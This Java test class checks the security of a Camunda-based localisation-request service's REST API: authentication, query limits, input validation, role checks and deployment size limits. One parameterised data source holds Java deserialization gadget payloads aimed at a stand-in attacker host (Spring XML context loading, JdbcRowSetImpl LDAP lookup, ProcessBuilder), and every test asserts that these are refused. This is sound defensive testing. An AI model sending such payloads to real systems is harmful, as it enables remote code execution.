package ru.mos.localisation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.MismatchingMessageCorrelationException;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.identity.User;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.task.Task;
import org.camunda.bpm.model.bpmn.Bpmn;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ActiveProfiles;
import ru.mos.localisation.HttpTestClient.Reply;
import ru.mos.localisation.process.ProcessVariables;
import ru.mos.localisation.intake.IntakeVariables;
import ru.mos.localisation.decision.DecisionVariables;
import ru.mos.localisation.shared.InvalidInputException;

/**
 * Camunda's REST API as a client sees it over HTTP: who gets in, how a start through
 * {@code /engine-rest} is validated and registered, and how officials' decisions are checked.
 *
 * <p>A context of its own: an operator switched deployments on here, a setting the integrity guard
 * reads at start-up (off everywhere else: {@code DecisionIntegrityTests}). Its engine keeps the
 * test profile's unique name, as the shared {@code ApplicationTest} context holds the engine named
 * {@code default} (two live engines of one name clash), so this class calls
 * {@code /engine-rest/engine/<name>/...}; the paths without the engine's name are exercised on the
 * {@code default} engine by {@code SecurityMatrixTests} and {@code HostileInputTests}.
 */
@SpringBootTest(
    webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
    // an operator switched deployments on (they are off by default: DecisionIntegrityTests)
    properties = "localisation.integrity.deployments-enabled=true")
@ActiveProfiles({"demo", "test"})
class EngineRestTests {

  private static final String BUSINESS_KEY_PATTERN = "LOC-\\d{4}-\\d{5}";
  /** {@code queryMaxResultsLimit} of application.yml: the largest page an authenticated caller gets. */
  private static final int QUERY_MAX_RESULTS = 2000;
  /** localisation.engine-rest.max-deployment-bytes of application.yml. */
  private static final int MAX_DEPLOYMENT_BYTES = 5_242_880;

  private static final Credentials ADMIN = new Credentials("admin", "admin");
  private static final Credentials INVESTMENT_OFFICER = new Credentials("investment.officer", "demo");
  private static final Credentials COMPLIANCE_OFFICER = new Credentials("compliance.officer", "demo");
  private static final Credentials ECO_REVIEWER = new Credentials("eco.reviewer", "demo");
  private static final Credentials INVESTOR = new Credentials("investor", "demo");

  private final HttpTestClient http;
  /** {@code /engine-rest/engine/<name>}: where this context's engine answers. */
  private final String engineRest;
  private final String startPath;
  private final ObjectMapper objectMapper;
  private final JdbcClient jdbc;
  private final HistoryService historyService;
  private final ManagementService managementService;
  private final TaskService taskService;
  private final IdentityService identityService;
  private final RepositoryService repositoryService;
  private final ProcessEngine processEngine;

  @Autowired
  EngineRestTests(
      @LocalServerPort int port,
      ObjectMapper objectMapper,
      JdbcClient jdbc,
      HistoryService historyService,
      ManagementService managementService,
      TaskService taskService,
      IdentityService identityService,
      RepositoryService repositoryService,
      ProcessEngine processEngine) {
    this.http = HttpTestClient.onPort(port);
    this.engineRest = "/engine-rest/engine/" + processEngine.getName();
    this.startPath = engineRest + "/process-definition/key/" + ProcessVariables.PROCESS_KEY + "/start";
    this.objectMapper = objectMapper;
    this.jdbc = jdbc;
    this.historyService = historyService;
    this.managementService = managementService;
    this.taskService = taskService;
    this.identityService = identityService;
    this.repositoryService = repositoryService;
    this.processEngine = processEngine;
  }

  // --- authentication -----------------------------------------------------------------------

  @Test
  void engineListIsOpenWithoutCredentials() throws Exception {
    Reply response = get("/engine-rest/engine", null);

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(json(response).isArray()).isTrue();
    assertThat(json(response)).isNotEmpty();
  }

  @Test
  void taskListWithoutCredentialsIsUnauthorized() throws Exception {
    Reply response = get(engineRest + "/task", null);

    assertThat(response.statusCode()).isEqualTo(401);
    // no Basic challenge: a browser would remember the credentials and send them with a foreign page's request
    assertThat(response.header("WWW-Authenticate"))
        .hasValueSatisfying(challenge -> assertThat(challenge).doesNotStartWithIgnoringCase("Basic"));
    assertThat(json(response).path("type").asText()).isEqualTo("AuthenticationException");
  }

  @Test
  void taskListWithAWrongPasswordIsUnauthorized() throws Exception {
    // a wrong password counts against this address's login budget (and the account's): a user of its own
    String userId = "rest.throwaway" + UUID.randomUUID().toString().substring(0, 8);
    User user = identityService.newUser(userId);
    user.setPassword("Right-password-1");
    identityService.saveUser(user);
    try {
      Reply response = get(engineRest + "/task", new Credentials(userId, "wrong-password"));

      assertThat(response.statusCode()).isEqualTo(401);
      assertThat(response.headerValues("WWW-Authenticate")).noneMatch(challenge -> challenge.startsWith("Basic"));
    } finally {
      identityService.deleteUser(userId);
    }
  }

  @Test
  void taskListWithValidCredentialsIsAnswered() throws Exception {
    Reply response = get(engineRest + "/task?maxResults=" + QUERY_MAX_RESULTS, INVESTMENT_OFFICER);

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(json(response).isArray()).isTrue();
  }

  // --- bounded queries -----------------------------------------------------------------------

  @Test
  void aPageLargerThanTheQueryLimitIsABadRequest() throws Exception {
    Reply response = get(engineRest + "/task?maxResults=" + (QUERY_MAX_RESULTS + 1), INVESTMENT_OFFICER);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("type").asText()).isEqualTo("BadUserRequestException");
    assertThat(json(response).path("message").asText()).isEqualTo("Max results limit of " + QUERY_MAX_RESULTS + " exceeded!");
  }

  @Test
  void aQueryWithoutAPageIsABadRequest() throws Exception {
    Reply response = get(engineRest + "/task", INVESTMENT_OFFICER);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("type").asText()).isEqualTo("BadUserRequestException");
    assertThat(json(response).path("message").asText()).isEqualTo("An unbound number of results is forbidden!");
  }

  // --- starting a request ---------------------------------------------------------------------

  @Test
  void startWithAJsonVariableRegistersTheRequestUnderARegistryNumber() throws Exception {
    String ref = newReference();

    Reply response = start(ADMIN, requestVariable("Json", TestRequests.recyclingPlantJson(ref)));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
    JsonNode instance = json(response);
    String businessKey = instance.path("businessKey").asText();
    assertThat(businessKey).matches(BUSINESS_KEY_PATTERN);
    Map<String, Object> row = registryRow(ref);
    assertThat(row)
        .containsEntry("number", businessKey)
        .containsEntry("submitted_by", "admin")
        .containsEntry("process_instance_id", instance.path("id").asText());
  }

  @Test
  void startWithAStringVariableRegistersTheRequest() throws Exception {
    String ref = newReference();

    Reply response = start(ADMIN, requestVariable("String", TestRequests.recyclingPlantJson(ref)));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
    String businessKey = json(response).path("businessKey").asText();
    assertThat(businessKey).matches(BUSINESS_KEY_PATTERN);
    assertThat(registryRow(ref)).containsEntry("number", businessKey).containsEntry("submitted_by", "admin");
  }

  @Test
  void startWithInvalidFieldsIsABadRequestNamingTheFieldsAndCreatesNothing() throws Exception {
    String ref = newReference();
    String invalid =
        TestRequests.recyclingPlantJson(ref)
            .replace("\"country\": \"CN\"", "\"country\": \"china\"")
            .replace("\"hazardClass\": 3", "\"hazardClass\": 9");
    long instancesBefore = processInstanceCount();

    Reply response = start(ADMIN, requestVariable("Json", invalid));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("message").asText()).contains("investor.country", "project.hazardClass");
    assertThat(registryRowCount(ref)).isZero();
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  @Test
  void startWithoutTheRequestVariableIsABadRequest() throws Exception {
    ObjectNode noVariables = objectMapper.createObjectNode();
    noVariables.putObject("variables");
    long instancesBefore = processInstanceCount();

    Reply response = start(ADMIN, noVariables);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("message").asText()).contains(IntakeVariables.REQUEST);
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  @Test
  void startWithAJavaSerializedVariableIsABadRequest() throws Exception {
    ObjectNode body = objectMapper.createObjectNode();
    ObjectNode request = body.putObject("variables").putObject(IntakeVariables.REQUEST);
    request.put("type", "Object");
    request.put("value", "rO0ABXQABHRlc3Q=");
    ObjectNode info = request.putObject("valueInfo");
    info.put("objectTypeName", "java.lang.String");
    info.put("serializationDataFormat", "application/x-java-serialized-object");
    long instancesBefore = processInstanceCount();

    Reply response = start(ADMIN, body);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  /**
   * A foreign Java type in every serialization format a client may name, with a valid request or
   * junk, and the error type: our validation's, or Camunda's own for a value it cannot store.
   */
  static Stream<Arguments> foreignObjectVariables() {
    String context = "org.springframework.context.support.ClassPathXmlApplicationContext";
    String json = "application/json";
    String validation = "InvalidInputException";
    String unstorable = "InvalidRequestException";
    return Stream.of(
        Arguments.of(context, json, TestRequests.recyclingPlantJson(newReference()), validation),
        Arguments.of(context, json, "\"http://attacker.example/context.xml\"", validation),
        Arguments.of("com.sun.rowset.JdbcRowSetImpl", json, "{\"dataSourceName\": \"ldap://attacker.example/x\", \"autoCommit\": true}", validation),
        Arguments.of("java.lang.ProcessBuilder", json, "{}", validation),
        Arguments.of("ru.mos.localisation.NoSuchType", json, TestRequests.recyclingPlantJson(newReference()), validation),
        Arguments.of("java.util.HashMap", json, TestRequests.recyclingPlantJson(newReference()), validation),
        // the request record's own type, but not from the investor API
        Arguments.of("ru.mos.localisation.intake.NewLocalisationRequest", json, TestRequests.recyclingPlantJson(newReference()), validation),
        // a format without a serializer is stored as given, and refused unread by registration
        Arguments.of(context, "application/xml", "<x/>", validation),
        Arguments.of(context, "text/plain", TestRequests.recyclingPlantJson(newReference()), validation),
        Arguments.of(context, null, TestRequests.recyclingPlantJson(newReference()), unstorable),
        Arguments.of(null, json, TestRequests.recyclingPlantJson(newReference()), unstorable));
  }

  @ParameterizedTest(name = "[{index}] {0} as {1}")
  @MethodSource("foreignObjectVariables")
  void startWithAnObjectVariableOfAForeignJavaTypeIsABadRequestAndCreatesNothing(
      String objectTypeName, String format, String value, String errorType) throws Exception {
    ObjectNode body = objectMapper.createObjectNode();
    ObjectNode request = body.putObject("variables").putObject(IntakeVariables.REQUEST);
    request.put("type", "Object");
    request.put("value", value);
    ObjectNode info = request.putObject("valueInfo");
    if (objectTypeName != null) {
      info.put("objectTypeName", objectTypeName);
    }
    if (format != null) {
      info.put("serializationDataFormat", format);
    }
    long instancesBefore = processInstanceCount();
    long rowsBefore = registryRowCountAll();

    Reply response = start(ADMIN, body);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(response.header("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
    JsonNode error = json(response);
    assertThat(error.path("type").asText()).as(response.body()).isEqualTo(errorType);
    assertThat(error.path("message").asText()).isNotBlank();
    if (errorType.equals("InvalidInputException")) {
      assertThat(error.path("message").asText()).contains("request: must be a Json variable");
    }
    assertThat(response.body()).doesNotContain("\tat ");
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
    assertThat(registryRowCountAll()).isEqualTo(rowsBefore);
  }

  @Test
  void startWithAMalformedJsonStringIsABadRequest() throws Exception {
    long instancesBefore = processInstanceCount();

    Reply response = start(ADMIN, requestVariable("String", "{\"externalReference\": \"REST-broken\""));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("message").asText()).contains("request");
    assertThat(registryRowCount("REST-broken")).isZero();
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  @Test
  void startWithAMalformedJsonVariableIsABadRequest() throws Exception {
    long instancesBefore = processInstanceCount();

    Reply response = start(ADMIN, requestVariable("Json", "{\"externalReference\": \"REST-broken-json\""));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(registryRowCount("REST-broken-json")).isZero();
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  @Test
  void anOfficialsStartIsNeitherBlockedByNorAnsweredWithAnotherAccountsReference() throws Exception {
    // given an investor filed a reference over the investor API
    String ref = newReference();
    Reply filed = post("/api/v1/localisation-requests", INVESTOR, objectMapper.readTree(TestRequests.recyclingPlantJson(ref)));
    assertThat(filed.statusCode()).as(filed.body()).isEqualTo(201);
    long instancesBefore = processInstanceCount();

    // when an official registers a request with the same reference (gathered at a fair)
    Reply started = start(ADMIN, requestVariable("Json", TestRequests.recyclingPlantJson(ref)));

    // then it is the official's own request: the investor's reference neither blocks nor shows
    assertThat(started.statusCode()).as(started.body()).isEqualTo(200);
    assertThat(json(started).path("businessKey").asText()).isNotEqualTo(json(filed).path("number").asText());
    assertThat(processInstanceCount()).isEqualTo(instancesBefore + 1);
    assertThat(registryRowCount(ref)).isEqualTo(2);
  }

  @Test
  void startWithTheSameExternalReferenceFromTheSameAccountAgainIsAConflict() throws Exception {
    String ref = newReference();
    ObjectNode body = requestVariable("Json", TestRequests.recyclingPlantJson(ref));
    Reply first = start(ADMIN, body);
    assertThat(first.statusCode()).as(first.body()).isEqualTo(200);
    long instancesBefore = processInstanceCount();

    Reply second = start(ADMIN, body);

    assertThat(second.statusCode()).as(second.body()).isEqualTo(409);
    assertThat(json(second).path("message").asText()).contains(ref);
    assertThat(registryRowCount(ref)).isOne();
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  @Test
  void investorCannotStartThroughTheEngineRestApi() throws Exception {
    String ref = newReference();
    long instancesBefore = processInstanceCount();

    Reply response = start(INVESTOR, requestVariable("Json", TestRequests.recyclingPlantJson(ref)));

    // investors use the investor API only: refused before the engine is asked
    assertThat(response.statusCode()).as(response.body()).isEqualTo(403);
    assertThat(json(response).path("type").asText()).isEqualTo("AuthorizationException");
    assertThat(registryRowCount(ref)).isZero();
    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
  }

  // --- logging -------------------------------------------------------------------------------

  @Test
  @ExtendWith(OutputCaptureExtension.class)
  void refusedStartsLogNoErrorAndNoStackTrace(CapturedOutput output) throws Exception {
    ObjectNode body = requestVariable("Json", TestRequests.recyclingPlantJson(newReference()));
    assertThat(start(ADMIN, body).statusCode()).isEqualTo(200);
    int logStart = output.getOut().length();

    // a duplicate, invalid fields, an Object variable
    assertThat(start(ADMIN, body).statusCode()).isEqualTo(409);
    assertThat(start(ADMIN, requestVariable("Json", TestRequests.recyclingPlantJson(newReference()).replace("\"hazardClass\": 3", "\"hazardClass\": 9"))).statusCode())
        .isEqualTo(400);
    assertThat(start(ADMIN, requestVariable("Object", "{}")).statusCode()).isEqualTo(400);

    String logged = output.getOut().substring(logStart);
    assertThat(logged).doesNotContain(" ERROR ", "ENGINE-16004", "\tat ");
    assertThat(logged.lines().filter(line -> line.contains("Refused a second request"))).hasSize(1);
  }

  @Test
  @ExtendWith(OutputCaptureExtension.class)
  void aRealFailureInAnEngineCommandIsStillLoggedAsAnErrorARefusalIsNot(CapturedOutput output) {
    var commands = ((ProcessEngineConfigurationImpl) processEngine.getProcessEngineConfiguration()).getCommandExecutorTxRequired();

    assertThatThrownBy(() -> commands.execute(context -> { throw new IllegalStateException("disk full"); }))
        .hasMessage("disk full");
    assertThatThrownBy(() -> commands.execute(context -> { throw InvalidInputException.of("request", "is wrong"); }))
        .isInstanceOf(InvalidInputException.class);
    assertThatThrownBy(() -> commands.execute(context -> { throw new MismatchingMessageCorrelationException("RequestWithdrawn"); }))
        .isInstanceOf(MismatchingMessageCorrelationException.class);

    assertThat(output.getOut().lines().filter(line -> line.contains(" ERROR ") && line.contains("ENGINE-16004")))
        .hasSize(1)
        .allMatch(line -> line.contains("disk full"));
  }

  // --- officials' decisions ------------------------------------------------------------------

  @Test
  void assessmentWithAnUnknownDecisionIsABadRequestAndTheTaskStaysOpen() throws Exception {
    Task assessment = startAndScreen();

    Reply response =
        complete(assessment, INVESTMENT_OFFICER, decision(DecisionVariables.ASSESSMENT_DECISION, "MAYBE"));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("message").asText()).contains(DecisionVariables.ASSESSMENT_DECISION);
    assertThat(openTask(assessment.getId())).isNotNull();
  }

  @Test
  void assessmentWithoutADecisionIsABadRequestAndTheTaskStaysOpen() throws Exception {
    Task assessment = startAndScreen();

    Reply response = complete(assessment, INVESTMENT_OFFICER, objectMapper.createObjectNode());

    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
    assertThat(json(response).path("message").asText()).contains(DecisionVariables.ASSESSMENT_DECISION);
    assertThat(openTask(assessment.getId())).isNotNull();
  }

  @Test
  void assessmentToProceedSendsARecyclingPlantToEnvironmentalReview() throws Exception {
    Task assessment = startAndScreen();

    Reply response =
        complete(assessment, INVESTMENT_OFFICER, decision(DecisionVariables.ASSESSMENT_DECISION, "PROCEED"));

    // battery recycling with hazard class 3: the priority decision requires environmental review
    assertThat(response.statusCode()).as(response.body()).isEqualTo(204);
    assertThat(openTask(assessment.getId())).isNull();
    Task review =
        taskService.createTaskQuery().processInstanceId(assessment.getProcessInstanceId()).singleResult();
    assertThat(review).isNotNull();
    assertThat(review.getTaskDefinitionKey()).isEqualTo("Task_ReviewEnvironmentalImpact");
    // and the environmental reviewer finds it among the tasks of their group
    Reply reviewerTasks =
        get(
            engineRest + "/task?processInstanceId=" + assessment.getProcessInstanceId()
                + "&taskDefinitionKey=Task_ReviewEnvironmentalImpact&maxResults=10",
            ECO_REVIEWER);
    assertThat(reviewerTasks.statusCode()).as(reviewerTasks.body()).isEqualTo(200);
    assertThat(json(reviewerTasks)).hasSize(1);
    assertThat(json(reviewerTasks).get(0).path("id").asText()).isEqualTo(review.getId());
  }

  @Test
  void complianceOfficerCannotCompleteTheAssessment() throws Exception {
    Task assessment = startAndScreen();

    Reply response =
        complete(assessment, COMPLIANCE_OFFICER, decision(DecisionVariables.ASSESSMENT_DECISION, "PROCEED"));

    assertThat(response.statusCode()).as(response.body()).isEqualTo(403);
    assertThat(json(response).path("type").asText()).isEqualTo("AuthorizationException");
    assertThat(openTask(assessment.getId())).isNotNull();
  }

  // --- deployments ----------------------------------------------------------------------------

  @Test
  void adminDeploysASmallModelWhenAnOperatorSwitchedDeploymentsOn() throws Exception {
    String name = "probe-" + UUID.randomUUID();

    Reply response = deploy(name, probeModel(name), 0, false);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
    assertThat(json(response).path("deployedProcessDefinitions")).hasSize(1);
    assertThat(repositoryService.createDeploymentQuery().deploymentName(name).count()).isOne();
  }

  @ParameterizedTest(name = "length declared: {0}")
  @ValueSource(booleans = {true, false})
  void aDeploymentAboveItsLimitIsRefusedWith413AndDeploysNothing(boolean lengthDeclared) throws Exception {
    String name = "probe-" + UUID.randomUUID();

    // a resource of more than the limit on its own (a multipart reader never reads the final "--")
    Reply response = deploy(name, probeModel(name), MAX_DEPLOYMENT_BYTES + 1, lengthDeclared);

    assertThat(response.statusCode()).as(response.body()).isEqualTo(413);
    assertThat(json(response).path("type").asText()).isEqualTo("BodyTooLargeException");
    assertThat(json(response).path("message").asText()).isEqualTo("Request body exceeds " + MAX_DEPLOYMENT_BYTES + " bytes");
    assertThat(repositoryService.createDeploymentQuery().deploymentName(name).count()).isZero();
  }

  // --- webapps and actuator --------------------------------------------------------------------

  @Test
  void webappsAreServed() throws Exception {
    Reply response = get("/camunda/app/welcome/" + processEngine.getName() + "/", null);

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(response.body()).containsIgnoringCase("<html");
  }

  @Test
  void healthIsExposed() throws Exception {
    Reply response = get("/actuator/health", null);

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(json(response).path("status").asText()).isEqualTo("UP");
  }

  @Test
  void environmentIsNotExposed() throws Exception {
    assertThat(get("/actuator/env", null).statusCode()).isEqualTo(404);
    assertThat(get("/actuator/env", ADMIN).statusCode()).isEqualTo(404);
  }

  // --- helpers -------------------------------------------------------------------------------

  private record Credentials(String user, String password) {}

  private static String newReference() {
    return "REST-" + UUID.randomUUID();
  }

  /** Starts a complete recycling request as admin and runs its screening job. */
  private Task startAndScreen() throws Exception {
    Reply started =
        start(ADMIN, requestVariable("Json", TestRequests.recyclingPlantJson(newReference())));
    assertThat(started.statusCode()).as(started.body()).isEqualTo(200);
    String processInstanceId = json(started).path("id").asText();

    Job screening = managementService.createJobQuery().processInstanceId(processInstanceId).singleResult();
    assertThat(screening).as("screening job").isNotNull();
    managementService.executeJob(screening.getId());

    Task assessment = taskService.createTaskQuery().processInstanceId(processInstanceId).singleResult();
    assertThat(assessment).isNotNull();
    assertThat(assessment.getTaskDefinitionKey()).isEqualTo("Task_AssessRequest");
    return assessment;
  }

  /** A process with nothing but a start and an end event, named after the deployment. */
  private static String probeModel(String name) {
    return Bpmn.convertToString(
        Bpmn.createExecutableProcess(name).camundaHistoryTimeToLive(1).startEvent().endEvent().done());
  }

  /**
   * Deploys a model as Camunda's clients do ({@code multipart/form-data}), with a second resource of
   * {@code paddingBytes} spaces when that is above zero.
   */
  private Reply deploy(String name, String model, int paddingBytes, boolean lengthDeclared)
      throws Exception {
    String boundary = "----probe" + UUID.randomUUID();
    String body =
        part(boundary, "deployment-name", null) + name + "\r\n"
            + part(boundary, name + ".bpmn", name + ".bpmn") + model + "\r\n"
            + (paddingBytes > 0 ? part(boundary, "padding.txt", "padding.txt") + " ".repeat(paddingBytes) + "\r\n" : "")
            + "--" + boundary + "--\r\n";
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    String contentType = "multipart/form-data; boundary=" + boundary;
    HttpTestClient.Request request = as(ADMIN).request("POST", engineRest + "/deployment/create");
    return (lengthDeclared ? request.body(contentType, bytes) : request.chunked(contentType, bytes)).send();
  }

  private static String part(String boundary, String name, String fileName) {
    return "--" + boundary + "\r\n"
        + "Content-Disposition: form-data; name=\"" + name + "\""
        + (fileName == null ? "" : "; filename=\"" + fileName + "\"\r\nContent-Type: application/octet-stream")
        + "\r\n\r\n";
  }

  private Task openTask(String taskId) {
    return taskService.createTaskQuery().taskId(taskId).singleResult();
  }

  private ObjectNode requestVariable(String type, String value) {
    ObjectNode body = objectMapper.createObjectNode();
    body.putObject("variables").putObject(IntakeVariables.REQUEST).put("value", value).put("type", type);
    return body;
  }

  private ObjectNode decision(String variable, String value) {
    ObjectNode variables = objectMapper.createObjectNode();
    variables.putObject(variable).put("value", value).put("type", "String");
    return variables;
  }

  private Reply start(Credentials credentials, JsonNode body) throws Exception {
    return post(startPath, credentials, body);
  }

  private Reply complete(Task task, Credentials credentials, ObjectNode variables)
      throws Exception {
    ObjectNode body = objectMapper.createObjectNode();
    body.set("variables", variables);
    return post(engineRest + "/task/" + task.getId() + "/complete", credentials, body);
  }

  private Reply get(String path, Credentials credentials) {
    return (credentials == null ? http : as(credentials)).get(path);
  }

  private Reply post(String path, Credentials credentials, JsonNode body) throws Exception {
    return as(credentials).post(path, objectMapper.writeValueAsString(body));
  }

  private HttpTestClient as(Credentials credentials) {
    return http.as(credentials.user(), credentials.password());
  }

  private JsonNode json(Reply response) throws IOException {
    return objectMapper.readTree(response.body());
  }

  private long processInstanceCount() {
    return historyService.createHistoricProcessInstanceQuery().count();
  }

  private long registryRowCount(String externalReference) {
    return jdbc.sql("SELECT COUNT(*) FROM localisation_request WHERE external_reference = ?")
        .param(externalReference)
        .query(Long.class)
        .single();
  }

  private long registryRowCountAll() {
    return jdbc.sql("SELECT COUNT(*) FROM localisation_request").query(Long.class).single();
  }

  private Map<String, Object> registryRow(String externalReference) {
    Map<String, Object> row =
        jdbc.sql(
                """
                SELECT number, submitted_by, process_instance_id FROM localisation_request
                WHERE external_reference = ?
                """)
            .param(externalReference)
            .query()
            .singleRow();
    // H2 answers column labels in upper case
    Map<String, Object> lowerCase = new HashMap<>();
    row.forEach((column, value) -> lowerCase.put(column.toLowerCase(Locale.ROOT), value));
    return lowerCase;
  }
}
